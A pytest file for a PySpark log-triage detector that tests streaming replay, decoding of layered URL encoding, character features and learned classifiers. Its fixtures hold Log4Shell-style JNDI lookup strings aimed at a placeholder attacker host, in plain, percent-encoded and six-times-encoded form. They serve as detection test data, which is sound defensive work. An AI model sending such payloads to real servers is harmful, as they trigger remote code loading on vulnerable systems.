"""Streams equal batches; learned detectors see what the signature misses."""

from urllib.parse import quote

from pyspark.sql import Observation
from pyspark.sql import functions as F

from logtriage.operators import features, learned
from logtriage.operators.detect import alerts, detect
from logtriage.plans.queries import QUERIES
from logtriage.plans.request_logs import request_logs
from logtriage.sources.alerts import RECOMMENDATION, read_alerts
from logtriage.streaming.monitor import monitored, read_log_stream, replay, write_alerts

LINES = [
    "GET /home HTTP/1.1",
    "GET /?q=${jndi:ldap://evil.example/a} HTTP/1.1",
    "GET /?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D HTTP/1.1",
    "JNDI configuration loaded",
]


def test_replay_equals_batch(spark, tmp_path):
    df = spark.createDataFrame([(t,) for t in LINES], "raw_log string")
    replay(df, f"{tmp_path}/in", f"{tmp_path}/alerts", f"{tmp_path}/check").awaitTermination()
    stored = read_alerts(spark, f"{tmp_path}/alerts").collect()
    batch = alerts(detect(df)).collect()
    assert sorted((r.raw_log, r.risk_score, r.risk_level) for r in stored) == sorted((r.raw_log, r.score, r.risk_level) for r in batch)
    assert len(stored) == 3 and all(r.recommendation == RECOMMENDATION and r.timestamp.endswith("+00:00") for r in stored)


def test_restart_adds_only_new_files(spark, tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()

    def once():
        stream = monitored(read_log_stream(spark, str(folder), max_files=1))
        write_alerts(stream, f"{tmp_path}/alerts", f"{tmp_path}/check", available_now=True).awaitTermination()
        return read_alerts(spark, f"{tmp_path}/alerts").count()

    (folder / "one.log").write_text("\n".join(LINES))
    assert once() == 3
    (folder / "two.log").write_text(LINES[1] + "\n" + LINES[0])
    assert once() == 4
    assert once() == 4


def test_stream_reads_folder_tables(spark, sf, tmp_path):
    for name in ("events", "pages"):
        spark.read.parquet(f"{sf}/{name}.parquet").repartition(4).write.parquet(f"{tmp_path}/{name}.parquet")
    found = QUERIES["stream_detect"](spark, str(tmp_path))
    assert found.count() == spark.read.parquet(f"{sf}/events.parquet").count()


def test_six_encodings_are_seen_through(spark):
    text = "GET /?q=${jndi:ldap://evil.example/a} HTTP/1.1"
    for _ in range(6):
        text = quote(text, "")
    row = detect(spark.createDataFrame([(text,)], "raw_log string")).first()
    assert row.label == "malicious" and "jndi:ldap" in row.normalized_log


def test_characters(spark):
    df = spark.createDataFrame([("abc",), ("${jndi:ldap://x/a}",), (chr(0x1F600) + "a",), ("",), (None,)], "t string")
    vocab = features.fit_vocab(df, ["t"])
    ids = {r.ch: r.id for r in vocab.collect()}
    assert list(ids) and [ids[c] for c in sorted(ids)] == list(range(2, len(ids) + 2))
    new = spark.createDataFrame([("abc",), ("aZ" + chr(0x1F600),), ("abcdefghijkl",), (None,)], "t string")
    got = {r.t: r.char_ids for r in features.encode_chars(new, vocab, "t", length=8).collect()}
    assert got["abc"] == [ids["a"], ids["b"], ids["c"], 0, 0, 0, 0, 0]
    assert got["aZ" + chr(0x1F600)][:3] == [ids["a"], 1, ids[chr(0x1F600)]]
    assert len(got["abcdefghijkl"]) == 8 and got[None] == [0] * 8


def test_learned_detectors(spark, sf, tmp_path):
    table = learned.feature_table(request_logs(spark, sf)).cache()
    train = table.filter(F.col("split").isin("train", "ood_stress_test", "unseen_obfuscation_test"))
    val = table.filter(F.col("split").isin("val", "adversarial_evasion_test"))
    best = learned.select_model(train, val, "raw", grid=(1e-4, 1.0), max_iter=6)
    assert best.reg_param == 1e-4 and best.validation_loss < 0.7
    learned.save_model(best.model, features.fit_vocab(train, ["raw_log"]), f"{tmp_path}/m")
    scored = learned.score(table, learned.load_model(f"{tmp_path}/m"), "score_raw")
    assert learned.load_vocab(spark, f"{tmp_path}/m").count() > 20
    missed = scored.filter("family = 'comment_injection'").agg(F.avg((F.col("score_raw") >= 0.5).cast("int"))).first()[0]
    assert missed > 0.9  # the signature scores these 0.45
    history = learned.training_history(spark, best.model, "raw").orderBy("iteration").collect()
    assert history[-1].objective < history[0].objective
    both = detect(scored, model="raw", learned={"raw": "score_raw"})
    assert both.filter(F.size("model_scores") != 2).count() == 0
    info = learned.runtime_info(spark, ["raw"], vocab_loaded=True).first()
    assert info.fallback == "raw" and learned.runtime_info(spark, []).first().fallback == "signature"
    models = learned.train_all(table.filter("log_id % 5 = 0"), ["signal"], max_iter=3)
    assert "score_signal" in learned.score_all(table, models).columns


def test_models_score_after_a_query_was_observed(spark):
    """The session then holds a manager of observations, which no task can be sent; the summary of a model holds the session."""
    rows = spark.createDataFrame([(f"GET /{k}" if k % 2 else "${jndi:%d" % k, k % 2) for k in range(20)], "raw_log string, label int")
    table = learned.feature_table(rows)
    model = learned.train(table, "raw", max_iter=2)
    seen = Observation()
    rows.observe(seen, F.count(F.lit(1)).alias("n")).collect()
    assert seen.get["n"] == 20 and learned.score(table, model, "score").count() == 20
    assert all((r.score >= 0.5) == (r.label == 1) for r in learned.score(table, model, "score").collect())
    assert learned.training_history(spark, model, "raw").count() > 1
